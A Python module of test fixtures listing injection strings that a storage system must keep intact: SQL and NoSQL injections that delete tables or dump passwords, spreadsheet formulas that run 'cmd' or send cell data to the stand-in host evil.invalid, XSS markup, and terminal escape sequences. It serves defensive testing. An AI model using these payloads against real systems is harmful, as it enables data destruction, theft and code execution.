# SPDX-License-Identifier: MIT
"""Texts that mean something somewhere: to SQL, VTQL, addresses, JSON, XML, shells, spreadsheets and terminals."""

from typing import Final

QUERIES: Final = (
    "' or '1'='1",
    "x'; delete from Accounts; --",
    "\\' or 1=1 --",
    "%' or '%'='",
    "') union select password from users --",
    "' and sleep(5) and '",
    '"; drop table accounts; --',
    "a&b=c#d?e=%27",
    "a%00b+c",
    '{"$ne":null}',
    "x</name><name>y",
    "]]><injected/>",
    "&lt;b&gt; &amp; &nbsp;",
    "${7*7}{{7*7}}",
    "*)(uid=*",
    "_%_%_",
)
"""Each is a text a person could store, and find again by it and nothing else."""

FORMULAS: Final = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    '=WEBSERVICE("http://evil.invalid/")',
    "+1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "|calc",
    "%0A=1",
    '"=1+1',
    "';=1+1",
)

MARKUP: Final = (
    "<b>Bold</b> & Co",
    "<img src='http://evil.invalid/x.png'>",
    "<a href='file:///etc/passwd'>Offer</a>",
    "<script>alert(1)</script>",
    "<font size=99 color=red>BIG</font>",
    "<table><tr><td>x</td></tr></table>",
    "&lt;escaped&gt; &copy;",
    "<!-- gone -->seen",
)

CONTROLS: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31mred",
    '\x1bP$q"p\x1b\\',
    "back\x08\x08\x08\x08gone",
    "over\rwritten",
    "bell\x07",
    "\u202eterces",
    "zero\u200bwidth",
    "two\nlines",
)
